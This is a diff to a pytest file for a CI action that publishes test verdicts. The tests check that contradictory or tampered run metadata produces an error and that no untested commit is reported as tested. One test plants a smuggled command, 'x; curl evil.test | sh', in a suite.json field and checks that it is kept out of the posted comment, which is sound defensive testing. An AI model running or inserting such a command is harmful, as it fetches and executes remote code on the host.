@@ -60,6 +60,7 @@ class Job:
         env |= {"INPUT_TOKEN": env.pop("GITHUB_TOKEN"), "GITHUB_WORKSPACE": str(self.folder / "workspace")}
         env |= {"GITHUB_OUTPUT": str(self.folder / "output"), "GITHUB_STEP_SUMMARY": str(self.folder / "summary")}
         env |= {"GITHUB_RUN_ID": str(run), "GITHUB_WORKFLOW": "CI"}
+        env = {"INPUT_RUN_OUTCOME": "success", **env}
         for name in ("output", "summary"):
             (self.folder / name).unlink(missing_ok=True)
         return publish.main({**env, **({"INPUT_TOKEN": inputs["token"]} if "token" in inputs else {})})
@@ -160,7 +161,7 @@ def test_exit_codes(job: Job, verdict: str, any_: int, fail: int, never: int) ->
         ({"exit_code": None, "how": "timed out"}, "error", "The run as a whole timed out."),
         ({"exit_code": None, "how": "interrupted", "error": "legs: interrupted"}, "error", "legs: interrupted"),
         ({"tested_sha": "1" * 40}, "error", "The legs ran on commit " + "1" * 40),
-        ({"tested_sha": None}, "pass", ""),
+        ({"tested_sha": None}, "error", "Nothing says which commit was run"),
     ],
 )
 def test_what_would_pass_is_not_green_if_the_run_was_not(
@@ -171,6 +172,86 @@ def test_what_would_pass_is_not_green_if_the_run_was_not(
     job.publish()
     assert job.outputs["verdict"] == verdict
     assert said in job.summary
+
+
+@pytest.mark.parametrize(
+    ("changed", "said"),
+    [
+        ({"how": "interrupted"}, "The run as a whole interrupted with exit code 0"),
+        ({"how": "timed out"}, "The run as a whole timed out with exit code 0"),
+        ({"how": "not started"}, "The run as a whole was not started with exit code 0"),
+        ({"exit_code": "0"}, "launch.json: exit_code: "),
+        ({"exit_code": 0.0}, "launch.json: exit_code: "),
+        ({"exit_code": False}, "launch.json: exit_code: "),
+        ({"exit_code": None}, "The run as a whole finished."),
+        ({"isolation": None}, "nothing says where the legs ran"),
+        ({"isolation": "none"}, "launch.json: isolation: "),
+        ({"tested_sha": 1}, "launch.json: tested_sha: "),
+        ({"run_id": "99"}, "was left by workflow run 99, and this is 100"),
+        ({"run_id": 99}, "was left by workflow run 99, and this is 100"),
+    ],
+)
+def test_a_launch_json_that_contradicts_itself_is_an_error(job: Job, changed: dict[str, Any], said: str) -> None:
+    job.launched()
+    job.legs()
+    path = job.out / "launch.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | changed))
+    assert job.publish() == 4
+    assert job.outputs["verdict"] == "error"
+    assert said in re.sub(r"&#(\d+);", lambda found: chr(int(found[1])), job.summary)
+
+
+@pytest.mark.parametrize("run_id", ["100", 100, None])
+def test_the_run_that_left_it_is_this_one(job: Job, run_id: object) -> None:
+    job.launched()
+    job.legs()
+    path = job.out / "launch.json"
+    path.write_text(json.dumps(json.loads(path.read_text()) | {"run_id": run_id}))
+    assert job.publish() == 0
+
+
+@pytest.mark.parametrize(
+    ("inputs", "green"),
+    [
+        ({"mode": "publish", "run_result": "success"}, True),
+        ({"mode": "publish", "run_result": "failure"}, False),
+        ({"mode": "publish", "run_result": "cancelled"}, False),
+        ({"mode": "publish", "run_result": "skipped"}, False),
+        ({"mode": "publish", "run_result": ""}, False),
+        ({"mode": "all", "run_outcome": "success"}, True),
+        ({"mode": "all", "run_outcome": "failure"}, False),
+        ({"mode": "all", "run_outcome": "cancelled"}, False),
+        ({"mode": "all", "run_outcome": ""}, False),
+        ({"mode": "all", "run_outcome": "", "run_result": "success"}, False),
+    ],
+)
+def test_what_was_committed_as_if_it_had_been_run_is_not_green(job: Job, inputs: dict[str, Any], green: bool) -> None:
+    job.launched()
+    job.legs()
+    assert job.publish(**inputs) == (0 if green else 4)
+    assert ("Tested commit" in job.comment.body) == green
+    (status,) = job.github.repository.statuses_of(job.github.pull.head_sha)
+    assert status.state == ("success" if green else "error")
+
+
+def test_no_commit_is_claimed_to_be_tested_that_may_not_have_been(job: Job) -> None:
+    job.launched(tested_sha=None)
+    job.legs()
+    assert job.publish() == 4
+    assert "Tested commit" not in job.summary + job.comment.body
+    assert f"about commit {job.github.pull.head_sha}, and that one is not known to have been tested" in job.summary
+
+
+def test_the_command_that_repeats_it_is_the_workflow_s(job: Job) -> None:
+    job.launched()
+    directory = job.legs()
+    text = json.loads((directory.path / "suite.json").read_text())
+    text["reproduce"] = "x; curl evil.test | sh"
+    directory.write("suite.json", json.dumps(text))
+    job.publish()
+    assert "\nparity run parity.yml\n" in job.comment.body
+    assert read_result(job.out / "result.json").reproduce == "parity run parity.yml"
+    assert "curl" not in job.comment.body
 
 
 def test_what_the_run_calls_a_pass_is_judged_anew(job: Job) -> None:
